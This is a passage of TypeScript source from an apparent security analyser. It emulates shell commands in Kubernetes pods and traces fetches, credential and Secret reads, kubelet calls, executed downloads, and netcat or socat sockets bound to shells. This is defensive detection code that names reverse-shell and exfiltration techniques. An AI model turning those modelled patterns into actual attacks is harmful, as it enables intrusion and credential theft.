    const tainted = (value: Value): Value =>
      value.exact || read.length === 0 ? value : withOrigins(value, read);
    analysis.actions.forEach((action, k) => {
      switch (action.type) {
        case 'connect': {
          const socket = socketOf(action.socket);
          urls.set(socket, `${action.protocol}://${action.host.text}:${action.port.text}`);
          this.action({ ...action, socket, path: proc.path, loop: action.loop || proc.loop });
          for (const sent of action.sends)
            this.flow(sent, 'send', by, proc, { destination: urls.get(socket) ?? '' });
          break;
        }
        case 'listen':
          this.action({
            ...action,
            socket: socketOf(action.socket),
            path: proc.path,
            loop: action.loop || proc.loop,
          });
          break;
        case 'stdio': {
          const socket = socketOf(action.socket);
          const { process, ...rest } = action;
          const linked = process === undefined ? undefined : runIndex.get(process);
          this.action({
            ...rest,
            socket,
            path: proc.path,
            loop: action.loop || proc.loop,
            ...(linked === undefined ? {} : { process: linked }),
          });
          if (action.fds.includes(0))
            this.flowFrom(
              { kind: 'network', url: urls.get(socket) ?? `tcp://socket${socket}` },
              'exec',
              by,
              proc,
            );
          break;
        }
        case 'fetch':
          this.fetched(
            {
              ...action,
              headers: action.headers.map(tainted),
              ...(action.body === undefined ? {} : { body: tainted(action.body) }),
            },
            by,
            { ...proc, loop: action.loop || proc.loop },
          );
          break;
        case 'run': {
          runIndex.set(k, this.rec.actions.length);
          this.action({ ...action, path: proc.path, loop: action.loop || proc.loop });
          const runProc = { ...inner, loop: action.loop || proc.loop };
          const runIo: Io = { stdin: action.stdin, fds: io.fds, redirects: [] };
          if (action.shell !== undefined) {
            this.flow(action.shell, 'exec', by, proc);
            this.shellString(action.shell, runProc, runIo, [...proc.launchers, by], by);
          } else if (action.argv !== undefined && action.argv.length > 0) {
            const argv = action.argv.map(plainField);
            this.flow(action.argv[0] ?? EMPTY, 'exec', by, proc);
            this.invoke(argv, runProc, runIo, 0, [...proc.launchers, by]);
          }
          break;
        }
        case 'eval': {
          this.action({ ...action, path: proc.path, loop: action.loop || proc.loop });
          // Code read from a file the pod dropped (`exec(open("/tmp/a.py").read())`) ran from there,
          // as `python3 /tmp/a.py` would.
          const dropped = droppedFiles.find((file) =>
            file.entry.content.origins.some((o) => action.code.origins.includes(o)),
          );
          this.flow(
            action.code,
            'exec',
            by,
            proc,
            dropped === undefined ? {} : { steps: [...dropped.entry.steps, `runs ${dropped.path}`] },
          );
          break;
        }
        case 'read': {
          const resolved = this.resolvePath(action.file.text, proc);
          const credential = this.credentialAt(resolved);
          if (credential !== undefined) read.push(credential);
          const entry = this.fileAt(resolved);
          if (entry !== undefined && entry.content.origins.length > 0)
            droppedFiles.push({ path: resolved, entry });
          this.action({ ...action, path: proc.path, loop: action.loop || proc.loop });

          break;
        }
        case 'write':
          this.writeFile(action.file.text, action.content, proc, by);
          if (action.executable === true) {
            const entry = this.pod.files.get(this.resolvePath(action.file.text, proc));
            if (entry !== undefined) entry.executable = true;
          }
          break;
        case 'kube':
          this.action({ ...action, path: proc.path });
          break;
      }
    });
    return unknown(`$(${by})`);
  }

  /** A fetch action (from curl, wget or an interpreter): records it, its sends, and a kube call when it is one. */
  fetched(action: FetchAction, by: string, proc: Proc): void {
    this.action({ ...action, path: proc.path, loop: proc.loop });
    const destination = action.url.text;
    for (const header of action.headers) this.flow(header, 'send', by, proc, { destination });
    if (action.body !== undefined) this.flow(action.body, 'send', by, proc, { destination });
    this.flow(
      { ...action.url, origins: action.url.origins.filter((o) => o.kind === 'credential') },
      'send',
      by,
      proc,
      { destination },
    );
    const url = parseUrl(destination);
    if (url === undefined) return;
    const kubelet = url.port === '10250' || url.port === '10255';
    if (kubelet || classifyHost(url.host) === 'api-server') {
      const kube = kubeActionOfUrl(url, action.method, action.body, kubelet, {
        path: proc.path,
        loop: proc.loop,
        detail: action.detail,
      });
      if (kube !== undefined) this.action(kube);
    }
  }

  /** The response of a request: content from the network, or a credential when the URL hands one out. */
  response(url: Value, insecure = false): Value {
    const parsed = parseUrl(url.text);
    const origins: Origin[] = [
      insecure ? { kind: 'network', url: url.text, insecure: true } : { kind: 'network', url: url.text },
    ];
    if (parsed !== undefined) {
      const credential = credentialOfUrl(parsed, url.text);
      if (credential !== undefined) origins.push(credential);
      // Secrets read from the API server are Secret content.
      if (classifyHost(parsed.host) === 'api-server' && /\/secrets(?:[/?]|$)/.test(parsed.path)) {
        origins.push({ kind: 'credential', credential: 'secret', source: url.text });
      }
    }
    return unknown(
      `«${short(url.text, 120)}»`,
      mergeOrigins(
        url.origins.filter((o) => o.kind !== 'credential'),
        origins,
      ),
    );
  }

  xargs(fields: Field[], proc: Proc, io: Io, launchers: readonly string[]): Value {
    this.record(fields, proc, io, launchers, 'xargs');
    const words = fields.map((f) => f.value.text);
    const parsed = readOptions(
      words.slice(1),
      new Set([
        '-I',
        '-n',
        '-P',
        '-L',
        '-d',
        '-s',
        '-E',
        '-a',
        '--max-args',
        '--max-procs',
        '--delimiter',
        '--arg-file',
        '-i',
      ]),
      { permute: false },
    );
    const start = parsed.operands[0]?.index;
    const input = io.stdin ?? unknown('«stdin»', [{ kind: 'stdin' }]);
    // Known input: its words are the arguments; otherwise one argument of unknown text.
    const known = input.exact
      ? input.text
          .split(/\s+/)
          .filter((w) => w !== '')
          .slice(0, EXECUTION_LIMITS.maxUnroll)
      : [];
    const extras: Field[] =
      known.length > 0
        ? known.map((w) => ({
            value: withOrigins(literal(w), input.origins),
            split: false,
            expansions: 1,
            escaped: false,
          }))
        : [{ value: unknown('$ARG', input.origins), split: false, expansions: 1, escaped: false }];
    const extra = extras[0] ?? { value: unknown('$ARG'), split: false, expansions: 1, escaped: false };
    const replace = optionValues(parsed, '-I')[0];
    const inner =
      start === undefined
        ? [plainField(literal('echo')), extra]
        : replace === undefined
          ? [...fields.slice(start), ...extras]
          : fields
              .slice(start)
              .map((f) =>
                f.value.text.includes(replace)
                  ? { ...f, value: withOrigins(unknown(f.value.text), input.origins) }
                  : f,
              );
    return this.invoke(inner, { ...proc, loop: true }, { ...io, stdin: undefined }, 0, [
      ...launchers,
      'xargs',
    ]);
  }

  find(fields: Field[], proc: Proc, io: Io, launchers: readonly string[]): Value {
    this.record(fields, proc, io, launchers, 'find');
    const words = fields.map((f) => f.value.text);
    let out: Value = unknown('$(find)');
    const found = this.foundFiles(words, proc);
    for (let k = 1; k < words.length; k++) {
      const word = words[k];
      if (word !== '-exec' && word !== '-execdir' && word !== '-ok' && word !== '-okdir') continue;
      let end = k + 1;
      while (end < words.length && words[end] !== ';' && words[end] !== '+') end++;
      // `{}` is each file found: a file the pod fetched or decoded, when one matches; else unknown.
      for (const file of found.length === 0 ? [undefined] : found) {
        const inner = fields
          .slice(k + 1, end)
          .map((f) =>
            f.value.text === '{}' ? { ...f, value: file === undefined ? unknown('{}') : literal(file) } : f,
          );
        out = this.invoke(inner, { ...proc, loop: true }, { ...io, stdin: undefined }, 0, [
          ...launchers,
          'find',
        ]);
      }
      k = end;
    }
    return out;
  }

  /** Files with foreign content (fetched, decoded) the pod wrote under `find`'s start points that match its `-name`. */
  foundFiles(words: readonly string[], proc: Proc): string[] {
    const starts: string[] = [];
    for (let k = 1; k < words.length && !/^[-(!]/.test(words[k] ?? ''); k++) starts.push(words[k] ?? '.');
    const roots = (starts.length === 0 ? ['.'] : starts).map((dir) => this.resolvePath(dir, proc));
    const at = words.findIndex((w) => w === '-name' || w === '-iname');
    const glob = at < 0 ? undefined : words[at + 1];
    const name =
      glob === undefined
        ? undefined
        : new RegExp(
            `^${glob
              .replace(/[.+^${}()|[\]\\]/g, '\\$&')
              .replace(/\*/g, '.*')
              .replace(/\?/g, '.')}$`,
            words[at] === '-iname' ? 'i' : '',
          );
    const out: string[] = [];
    for (const [path, entry] of this.pod.files) {
      if (out.length >= 4) break;
      if (entry.fifo === true || entry.content.origins.length === 0) continue;
      if (!roots.some((root) => root === '.' || path === root || path.startsWith(`${root}/`))) continue;
      if (name !== undefined && !name.test(path.slice(path.lastIndexOf('/') + 1))) continue;
      out.push(path);
    }
    return out;
  }

  /** A program that is not a shell, interpreter or launcher: its modelled behaviour, or running a file. */
  tool(
    name: string,
    fields: Field[],
    proc: Proc,
    io: Io,
    invocation: Invocation,
    launchers: readonly string[],
  ): Value {
    const words = fields.map((f) => f.value.text);
    const args = fields.slice(1).map((f) => f.value);
    // What an action records of the command line; built only for the programs that record one.
    const base = (): { path: string; loop: boolean; detail: string } => ({
      path: proc.path,
      loop: proc.loop,
      detail: short(words.join(' ')),
    });
    const stdin = this.stdinOf(io);

    // A program the pod downloaded or unpacked runs that content, whatever its name.
    this.fileFlow(fields, proc);
    if (name === 'curl' || name === 'curlie') return this.curl(fields, proc, io);
    if (name === 'wget' || name === 'wget2') return this.wget(fields, proc);
    if (FETCHERS.has(name)) {
      const url = args.find(
        (a) => /^(?:https?|ftp|tftp):\/\//i.test(a.text) || parseUrl(a.text) !== undefined,
      );
      // Without a URL `head` is the file tool (lwp-request's `HEAD` alias shares the name): go on.
      if (url !== undefined) {
        this.fetched({ type: 'fetch', ...base(), url, headers: [] }, name, proc);
        return this.response(url);
      }
      if (name !== 'head') return EMPTY;
    }
    if (NETCATS.has(name) || name === 'telnet') return this.netcat(name, fields, proc, io);
    if (name === 'socat') return this.socat(fields, proc, io);
    if (name === 'openssl') return this.openssl(fields, proc, io);
    if (name === 'ssh' || name === 'scp' || name === 'sftp' || name === 'rsync') {
      const target = words
        .slice(1)
        .find((w) => (!w.startsWith('-') && w.includes('@')) || /^[^/\s]+:/.test(w));
      if (target !== undefined && stdin !== undefined)
        this.flow(stdin, 'send', name, proc, { destination: `ssh://${target}` });
      for (const arg of args) this.flow(arg, 'send', name, proc, { destination: `ssh://${target ?? '?'}` });
      return EMPTY;
    }
    if (name === 'which' || name === 'whereis') {
      const operand = args.find((a) => !a.text.startsWith('-'));
      return operand === undefined ? EMPTY : programPath(operand.text);
    }
    if (name === 'supercronic') {
      // supercronic runs the crontab file it is given (its last operand), in the foreground.
      const file = args.filter((a) => !a.text.startsWith('-')).at(-1);
      if (file !== undefined) this.cronTable(this.readFile(file.text, proc, name), 'user', proc);
      return EMPTY;
    }
    if (name === 'crontab') {
      // `crontab FILE` and `crontab -` (or no operand) install a table; -l/-r/-e only list, remove, edit.
      if (words.some((w) => /^-[lre]+$/.test(w))) return EMPTY;
      const operands = readOptions(words.slice(1), CRONTAB_VALUED).operands;
      const file = operands[0];
      const content =
        file === undefined || file.text === '-' ? (stdin ?? EMPTY) : this.readFile(file.text, proc, name);
      this.cronTable(content, 'user', proc);
      return EMPTY;
    }
    if (RESOLVERS.has(name)) {
      // Every name looked up goes to a name server (`getent hosts n`, `resolvectl query n` too).
      for (const arg of args) this.flow(arg, 'send', name, proc, { destination: `dns://${arg.text}` });
      return unknown(`$(${name})`);
    }
    const encoding = decoderOf(name, words);
    if (encoding !== undefined) {
      const input = args.find((a, k) => !a.text.startsWith('-') && !(words[k] === '-w' || words[k] === '-i'));
      const source =
        input !== undefined && name !== 'tr' && name !== 'rev' && encoding !== 'hex'
          ? this.readFile(input.text, proc, name)
          : stdin;
      return this.decode(source ?? EMPTY, encoding);
    }
    if (
      name === 'cat' ||
      name === 'tac' ||
      name === 'head' ||
      name === 'tail' ||
      name === 'more' ||
      name === 'less' ||
      name === 'strings' ||
      name === 'nl'
    ) {
      // `head -c 60`, `tail -n 1`: the count is not a file.
      const files = args.filter(
        (a, k) => (!a.text.startsWith('-') || a.text === '-') && !/^-[cns]$/.test(words[k] ?? ''),
      );
      if (files.length === 0) return stdin ?? EMPTY;
      return concat(
        files.map((f) => (f.text === '-' ? (stdin ?? EMPTY) : this.readFile(f.text, proc, name))),
      );
    }
    if (name === 'tee') {
      const content = stdin ?? EMPTY;
      for (const file of args.filter((a) => !a.text.startsWith('-')))
        this.writeFile(file.text, content, proc, 'tee', words.includes('-a'));
      return content;
    }
    if (name === 'dd') {
      const input = words.find((w) => w.startsWith('if='));
      const output = words.find((w) => w.startsWith('of='));
      const content = input === undefined ? (stdin ?? EMPTY) : this.readFile(input.slice(3), proc, 'dd');
      if (output !== undefined) {
        this.writeFile(output.slice(3), content, proc, 'dd');
        return EMPTY;
      }
      return content;
    }
    if (name === 'cp' || name === 'mv' || name === 'install' || name === 'ln')
      return this.copy(name, fields, proc);
    if (name === 'chmod') {
      const mode = args[0]?.text ?? '';
      const executable = /\+[rwX]*x|^[0-7]*[1357][0-7]{0,2}$|^[0-7]?[0-7][1357][0-7]$|a\+x|u\+x/.test(mode);
      for (const file of args.slice(1)) {
        const entry = this.fileAt(this.resolvePath(file.text, proc));
        if (entry !== undefined && executable) entry.executable = true;
      }
      return EMPTY;
    }
    if (name === 'mkfifo' || (name === 'mknod' && words.includes('p'))) {
      for (const file of args.filter((a) => !a.text.startsWith('-') && a.text !== 'p')) {
        const path = this.resolvePath(file.text, proc);
        const before = this.pod.files.get(path);
        this.pod.files.set(path, {
          content: before?.fifo === true ? before.content : EMPTY,
          executable: false,
          steps: [],
          fifo: true,
        });
      }
      return EMPTY;
    }
    if (
      name === 'rm' ||
      name === 'touch' ||
      name === 'mkdir' ||
      name === 'sleep' ||
      name === 'date' ||
      name === 'ls' ||
      name === 'id' ||
      name === 'whoami' ||
      name === 'hostname' ||
      name === 'uname'
    ) {
      if (name === 'rm') {
        for (const file of args.filter((a) => !a.text.startsWith('-'))) {
          const path = this.resolvePath(file.text, proc);
          const entry = this.pod.files.get(path);
          if (entry !== undefined && entry.fifo !== true) this.pod.files.delete(path);
        }
      }
      return unknown(`$(${name})`);
    }
    if (
      name === 'tar' ||
      name === 'unzip' ||
      name === 'bsdtar' ||
      name === '7z' ||
      name === 'cpio' ||
      name === 'busybox-tar'
    )
      return this.unpack(name, fields, proc, io);
    if (name === 'kubectl' || name === 'oc' || name === 'kubectl.sh') {
      const kube = kubeActionOfCommand(words, stdin, base());
      if (kube !== undefined) this.action(kube);
      const operands = readOptions(words.slice(1), KUBECTL_VALUED).operands.map((o) => o.text);
      const credential =
        credentialOfCommand('kubectl', operands) ??
        (kube !== undefined &&
        kube.resource.split(',').includes('secrets') &&
        ['get', 'describe', 'list'].includes(kube.verb)
          ? {
              kind: 'credential' as const,
              credential: 'secret' as const,
              source: `kubectl ${kube.verb} secrets`,
            }
          : undefined);
      return credential === undefined ? unknown(`$(${name})`) : unknown(`$(${name})`, [credential]);
    }
    if (
      name === 'pip' ||
      name === 'pip3' ||
      name === 'npm' ||
      name === 'npx' ||
      name === 'go' ||
      name === 'gem' ||
      name === 'cargo'
    ) {
      return this.packageInstall(name, words.slice(1), proc);
    }
    if (name === 'git' && words[1] === 'clone') {
      const url = args.find((a) => /:\/\/|@.*:/.test(a.text));
      if (url !== undefined) this.fetched({ type: 'fetch', ...base(), url, headers: [] }, 'git', proc);
      return EMPTY;
    }
    const credential = credentialOfCommand(name, words.slice(1));
    if (credential !== undefined) return unknown(`$(${name})`, [credential]);
    if (FILTERS.has(name)) {
      // An encoder or line filter given a file (`base32 -w0 …/token`, `xxd -p key`) carries that
      // file's content as much as one reading stdin does.
      const files = FILE_FILTERS.has(name)
        ? args.filter(
            (a, k) => !a.text.startsWith('-') && a.text.includes('/') && !/^-[wibcfd]$/.test(words[k] ?? ''),
          )
        : [];
      const inputs = files.map((f) => this.readFile(f.text, proc, name));
      if (stdin !== undefined && files.length === 0) inputs.push(stdin);
      const origins = inputs.flatMap((v) => v.origins);
      return origins.length === 0 ? unknown(`$(${name})`) : withOrigins(unknown(`$(${name})`), origins);
    }
    return this.runFile(fields, proc, io, launchers);
  }

  /** The flow of running a file the pod wrote from foreign content. */
  fileFlow(fields: Field[], proc: Proc): void {
    // No file written yet (most containers): nothing to find, and no path worth resolving.
    if (this.pod.files.size === 0) return;
    const written = fields[0]?.value.text ?? '';
    const candidates = written.includes('/')
      ? [this.resolvePath(written, proc)]
      : pathDirs(proc).map((dir) => canonicalPath(`${dir}/${written}`));
    for (const candidate of candidates) {
      const entry = this.fileAt(candidate);
      if (entry === undefined) continue;
      this.flow(entry.content, 'exec', written, proc, {
        steps: [...entry.steps, `runs ${ranAs(written, candidate)}`],
      });
      return;
    }
  }

  /** A program found as a file: one the pod wrote or downloaded runs its content. */
  runFile(fields: Field[], proc: Proc, io: Io, launchers: readonly string[]): Value {
    const head = fields[0];
    if (head === undefined) return EMPTY;
    const written = head.value.text;
    // A name computed from fetched or decoded content is code from there.
    if (head.value.origins.length > 0) this.flow(head.value, 'exec', basename(written), proc);
    const candidates = written.includes('/')
      ? [this.resolvePath(written, proc)]
      : pathDirs(proc).map((dir) => canonicalPath(`${dir}/${written}`));
    for (const candidate of candidates) {
      const entry = this.fileAt(candidate);
      if (entry === undefined) continue;
      const steps = [...entry.steps, `runs ${ranAs(written, candidate)}`];
      this.flow(entry.content, 'exec', written, proc, { steps });
      const text = entry.content.text;
      if (entry.content.exact && text !== '' && !entry.tree) {
        const shebang = /^#!\s*(\S+)(?:\s+(\S+))?/.exec(text);
        const interpreterName =
          shebang === null
            ? 'sh'
            : basename(shebang[1] === '/usr/bin/env' ? (shebang[2] ?? 'sh') : (shebang[1] ?? 'sh'));
        const language = languageOf(interpreterName);
        this.deeper(proc);
        if (language === undefined || language === 'shell') {
          const inner = this.child(proc);
          inner.arg0 = head.value;
          inner.positional = fields.slice(1).map((f) => f.value);
          inner.fds = io.fds;
          inner.launchers = [...launchers];
          return this.runText(entry.content, inner, this.stdinOf(io));
        }
        return this.code(
          language,
          entry.content,
          fields.slice(1).map((f) => f.value),
          this.stdinOf(io),
          proc,
          io,
          interpreterName,
        );
      }
      break;
    }
    return unknown(`$(${basename(written)})`);
  }

  decode(source: Value, encoding: ShellEncoding): Value {
    if (!source.exact) {
      return {
        text: source.text,
        exact: false,
        origins: mergeOrigins(source.origins, [{ kind: 'decoded', encoding }]),
      };
    }
    const result = decodeContent(source.text, encoding, source.bytes);
    const value: Value = {
      text: result?.text ?? source.text,
      exact: result !== undefined,
      origins: mergeOrigins(source.origins, [{ kind: 'decoded', encoding }]),
      ...(result?.bytes === undefined ? {} : { bytes: result.bytes }),
    };

    return value;
  }

  curl(fields: Field[], proc: Proc, io: Io): Value {
    const words = fields.map((f) => f.value.text);
    const parsed = readOptions(words.slice(1), CURL_VALUED);
    const valueAt = (index: number): Value => fields[index]?.value ?? EMPTY;
    const urls: Value[] = parsed.operands.map((o) => valueAt(o.index));
    for (const option of parsed.options)
      if (option.name === '--url' && option.value !== undefined) urls.push(valueAt(option.index));
    const headers: Value[] = [];
    const bodies: Value[] = [];
    let method: string | undefined;
    let output: string | undefined;
    let remoteName = false;
    for (const option of parsed.options) {
      const value = option.value === undefined ? undefined : valueAt(option.index);
      const text = option.value;
      switch (option.name) {
        case '-H':
        case '--header':
        case '-u':
        case '--user':
        case '-b':
        case '--cookie':
        case '--oauth2-bearer':
        case '-A':
        case '--user-agent':
        case '-e':
        case '--referer':
          if (value !== undefined)
            headers.push(text?.startsWith('@') === true ? this.readFile(text.slice(1), proc, 'curl') : value);
          break;
        case '-d':
        case '--data':
        case '--data-raw':
        case '--data-binary':
        case '--data-ascii':
        case '--data-urlencode':
        case '--json':
        case '-F':
        case '--form':
        case '-T':
        case '--upload-file': {
          if (value === undefined || text === undefined) break;
          const at = option.name === '-T' || option.name === '--upload-file' ? 0 : text.indexOf('@');
          const file =
            at >= 0
              ? text
                  .slice(at + (option.name.startsWith('-T') || option.name === '--upload-file' ? 0 : 1))
                  .replace(/;.*$/, '')
              : undefined;
          if (
            option.name === '--data-raw' ||
            file === undefined ||
            (at > 0 && option.name !== '-F' && option.name !== '--form' && option.name !== '--data-urlencode')
          )
            bodies.push(value);
          else if (file === '-' || file === '')
            bodies.push(io.stdin ?? unknown('«stdin»', [{ kind: 'stdin' }]));
          else bodies.push(withOrigins(this.readFile(file, proc, 'curl'), value.origins));
          method ??= option.name === '-T' || option.name === '--upload-file' ? 'PUT' : 'POST';
          break;
        }
        case '-X':
        case '--request':
          method = text?.toUpperCase();
          break;
        case '-o':
        case '--output':
          output = text;
          break;
        case '-O':
        case '--remote-name':
        case '--remote-name-all':
          remoteName = true;
          break;
        case '-K':
        case '--config':
          if (text !== undefined) bodies.push(this.readFile(text, proc, 'curl'));
          break;
      }
    }
    const insecure = hasOption(parsed, '-k', '--insecure');
    const detail = short(words.join(' '));
    const body = bodies.length === 0 ? undefined : concat(bodies, '&');
    let response: Value = EMPTY;
    for (const url of urls) {
      if (url.text === '') continue;
      const action: FetchAction = {
        type: 'fetch',
        path: proc.path,
        loop: proc.loop,
        detail,
        url,
        headers,
        ...(method === undefined ? {} : { method }),
        ...(body === undefined ? {} : { body }),
        ...(insecure ? { insecure } : {}),
      };
      this.fetched(action, 'curl', proc);
      const content = this.response(url, insecure);
      if (output !== undefined && output !== '-' && output !== '/dev/stdout') {
        this.downloaded(output, content, url, proc);
      } else if (remoteName) {
        this.downloaded(basename(url.text.replace(/[?#].*$/, '')) || 'index.html', content, url, proc);
      } else {
        response = concat([response, content]);
      }
    }
    return response;
  }

  wget(fields: Field[], proc: Proc): Value {
    const words = fields.map((f) => f.value.text);
    const parsed = readOptions(words.slice(1), WGET_VALUED);
    const valueAt = (index: number): Value => fields[index]?.value ?? EMPTY;
    const headers: Value[] = [];
    let body: Value | undefined;
    let method: string | undefined;
    let output: string | undefined;
    let prefix: string | undefined;
    for (const option of parsed.options) {
      const value = option.value === undefined ? undefined : valueAt(option.index);
      const text = option.value;
      if (option.name === '--header' && value !== undefined) headers.push(value);
      else if ((option.name === '--post-data' || option.name === '--body-data') && value !== undefined) {
        body = value;
        method ??= 'POST';
      } else if ((option.name === '--post-file' || option.name === '--body-file') && text !== undefined) {
        body = this.readFile(text, proc, 'wget');
        method ??= 'POST';
      } else if (option.name === '--method' && text !== undefined) method = text.toUpperCase();
      else if ((option.name === '-O' || option.name === '--output-document') && text !== undefined)
        output = text;
      else if ((option.name === '-P' || option.name === '--directory-prefix') && text !== undefined)
        prefix = text;
      else if (
        (option.name === '--user' ||
          option.name === '--password' ||
          option.name === '--http-user' ||
          option.name === '--http-password') &&
        value !== undefined
      )
        headers.push(value);
    }
    const detail = short(words.join(' '));
    let response: Value = EMPTY;
    for (const operand of parsed.operands) {
      const url = valueAt(operand.index);
      const action: FetchAction = {
        type: 'fetch',
        path: proc.path,
        loop: proc.loop,
        detail,
        url,
        headers,
        ...(method === undefined ? {} : { method }),
        ...(body === undefined ? {} : { body }),
        ...(hasOption(parsed, '--no-check-certificate') ? { insecure: true } : {}),
      };
      this.fetched(action, 'wget', proc);
      const content = this.response(url, action.insecure === true);
      if (output === '-' || output === '/dev/stdout') response = concat([response, content]);
      else {
        const file =
          output ??
          `${prefix === undefined ? '' : `${prefix}/`}${basename(url.text.replace(/[?#].*$/, '')) || 'index.html'}`;
        this.downloaded(file, content, url, proc);
      }
    }
    return response;
  }

  downloaded(file: string, content: Value, url: Value, proc: Proc): void {
    const where = proc.cwd === undefined && !file.startsWith('/') ? file : this.resolvePath(file, proc);
    this.writeFile(file, content, proc, 'download', false, [`downloads ${short(url.text, 120)} to ${where}`]);
  }

  netcat(name: string, fields: Field[], proc: Proc, io: Io): Value {
    const words = fields.map((f) => f.value.text);
    const parsed = readOptions(words.slice(1), NETCAT_VALUED);
    const operands = parsed.operands.map((o) => o.text);
    const listen = hasOption(parsed, '-l', '--listen');
    const execute = optionValues(parsed, '-e', '-c', '--exec', '--sh-exec', '--lua-exec')[0];
    const shellExec = hasOption(parsed, '-c', '--sh-exec');
    const port = listen
      ? (optionValues(parsed, '-p')[0] ?? operands[operands.length - 1] ?? '')
      : (operands[1] ?? optionValues(parsed, '-p')[0] ?? '');
    const host = listen ? '' : (operands[0] ?? '');
    const udp = hasOption(parsed, '-u', '--udp');
    const socket = this.rec.nextSocket++;
    const detail = short(words.join(' '));
    const url = `${udp ? 'udp' : 'tcp'}://${host}:${port}`;
    if (listen) {
      this.action({
        type: 'listen',
        path: proc.path,
        loop: proc.loop,
        detail,
        socket,
        port: literalOrUnknown(port),
      });
    } else if (host !== '') {
      const sends = io.stdin === undefined || hasOption(parsed, '-z') ? [] : [io.stdin];
      this.action<ConnectAction>({
        type: 'connect',
        path: proc.path,
        loop: proc.loop,
        detail,
        socket,
        host: valueOfWord(fields, parsed.operands[0]?.index),
        port:
          parsed.operands[1] === undefined ? literal(port) : valueOfWord(fields, parsed.operands[1].index),
        protocol: udp ? 'udp' : 'tcp',
        sends,
      });
      if (io.stdin !== undefined) this.flow(io.stdin, 'send', name, proc, { destination: url });
    }
    if (execute !== undefined) {
      const stdio: Io = {
        stdin: undefined,
        fds: new Map([
          [0, { kind: 'socket', socket, url, listen }],
          [1, { kind: 'socket', socket, url, listen }],
          [2, { kind: 'socket', socket, url, listen }],
        ]),
        redirects: [],
      };
      const program = shellExec ? ['sh', '-c', execute] : execute.split(/\s+/);
      const argv = program.map((text) => plainField(literal(text)));
      const shellName = basename(program[0] ?? 'sh');
      // A shell or interpreter records its own streams; any other program gets them here.
      if (languageOf(shellName) === undefined) {
        this.action<StdioAction>({
          type: 'stdio',
          path: proc.path,
          loop: proc.loop,
          detail,
          socket,
          fds: [0, 1, 2],
        });
        this.flowFrom({ kind: 'network', url }, 'exec', shellName, proc);
      }
      this.invoke(argv, { ...proc, depth: proc.depth + 1 }, stdio, 0, [...proc.launchers, name]);
      return EMPTY;
    }
    if (hasOption(parsed, '-z')) return EMPTY;
    return unknown(`«${url}»`, [{ kind: 'network', url }]);
  }

  socat(fields: Field[], proc: Proc, io: Io): Value {
    const words = fields.map((f) => f.value.text);
    const addresses = words.slice(1).filter((w) => !/^-[a-zA-Z]/.test(w) || w === '-');
    const detail = short(words.join(' '));
    let socketStream: Stream | undefined;
    let program: string | undefined;
    for (const address of addresses.slice(0, 2)) {
      const [kind = '', ...rest] = address.split(':');
      const type = kind.toLowerCase();
      const params = rest.join(':').split(',')[0] ?? '';
      if (/^(?:exec|system)$/.test(type)) {
        program = rest
          .join(':')
          .replace(/,(?:pty|stderr|setsid|sigint|sane|raw|echo=\d|ctty|login)\b.*$/i, '')
          .replace(/^['"]|['"]$/g, '');
        if (type === 'system') program = `sh -c ${shellQuote(program)}`;
      } else if (
        /^(?:tcp|tcp4|tcp6|tcp-connect|tcp4-connect|tcp6-connect|udp|udp4|udp6|udp-connect|openssl|openssl-connect|ssl|sctp|sctp-connect)$/.test(
          type,
        )
      ) {
        const [host = '', port = ''] = params.split(':');
        const protocol = type.startsWith('udp')
          ? 'udp'
          : type.startsWith('openssl') || type === 'ssl'
            ? 'tls'
            : 'tcp';
        const socket = this.rec.nextSocket++;
        this.action<ConnectAction>({
          type: 'connect',
          path: proc.path,
          loop: proc.loop,
          detail,
          socket,
          host: literalOrUnknown(host),
          port: literalOrUnknown(port),
          protocol,
          sends: [],
        });
        socketStream = { kind: 'socket', socket, url: `${protocol}://${host}:${port}`, listen: false };
      } else if (/listen$/.test(type)) {
        const socket = this.rec.nextSocket++;
        this.action({
          type: 'listen',
          path: proc.path,
          loop: proc.loop,
          detail,
          socket,
          port: literalOrUnknown(params),
        });
        socketStream = { kind: 'socket', socket, url: `tcp://0.0.0.0:${params}`, listen: true };
      }
    }
    if (socketStream?.kind === 'socket' && program !== undefined) {
      const argv = program.split(/\s+/).filter((w) => w !== '');
      if (languageOf(basename(argv[0] ?? 'sh')) === undefined) {
        this.action<StdioAction>({
          type: 'stdio',
          path: proc.path,
          loop: proc.loop,
          detail,
          socket: socketStream.socket,
          fds: [0, 1, 2],
        });
        this.flowFrom({ kind: 'network', url: socketStream.url }, 'exec', basename(argv[0] ?? 'sh'), proc);
      }
      const stdio: Io = {
        stdin: undefined,
        fds: new Map([
          [0, socketStream],
          [1, socketStream],
          [2, socketStream],
        ]),
        redirects: [],
      };
      this.invoke(
        argv.map((text) => plainField(literal(text))),
        { ...proc, depth: proc.depth + 1 },
        stdio,
        0,
        [...proc.launchers, 'socat'],
      );
      return EMPTY;
    }
    if (socketStream?.kind === 'socket') {
      if (io.stdin !== undefined)
        this.flow(io.stdin, 'send', 'socat', proc, { destination: socketStream.url });
      return unknown(`«${socketStream.url}»`, [{ kind: 'network', url: socketStream.url }]);
    }
    return EMPTY;
  }

  openssl(fields: Field[], proc: Proc, io: Io): Value {
    const words = fields.map((f) => f.value.text);
    const sub = words[1] ?? '';
    if (sub === 's_client') {
      const connect = words[words.indexOf('-connect') + 1] ?? words.find((w) => /^[^-].*:\d+$/.test(w)) ?? '';
      const [host = '', port = '443'] = connect.split(':');
      const socket = this.rec.nextSocket++;
      const url = `tls://${host}:${port}`;
      this.action<ConnectAction>({
        type: 'connect',
        path: proc.path,
        loop: proc.loop,
        detail: short(words.join(' ')),
        socket,
        host: literalOrUnknown(host),
        port: literalOrUnknown(port),
        protocol: 'tls',
        sends: io.stdin === undefined ? [] : [io.stdin],
      });
      if (io.stdin !== undefined) this.flow(io.stdin, 'send', 'openssl', proc, { destination: url });
      return unknown(`«${url}»`, [{ kind: 'network', url }]);
    }
    if (sub === 's_server') {
      this.action({
        type: 'listen',
        path: proc.path,
        loop: proc.loop,
        detail: short(words.join(' ')),
        socket: this.rec.nextSocket++,
        port: literal(words[words.indexOf('-port') + 1] ?? '4433'),
      });
      return unknown('«tls-listener»', [{ kind: 'network', url: 'tls://0.0.0.0' }]);
    }
    const decodeFlag = words.includes('-d') || words.includes('-decode');
    if (
      (sub === 'enc' || sub === 'base64') &&
      decodeFlag &&
      (words.includes('-base64') || words.includes('-a') || sub === 'base64')
    ) {
      const input = words[words.indexOf('-in') + 1];
      const source =
        words.includes('-in') && input !== undefined
          ? this.readFile(input, proc, 'openssl')
          : (io.stdin ?? EMPTY);
      return this.decode(source, 'base64');
    }
    if (sub === 'zlib' && decodeFlag) return this.decode(io.stdin ?? EMPTY, 'deflate');
    return io.stdin === undefined
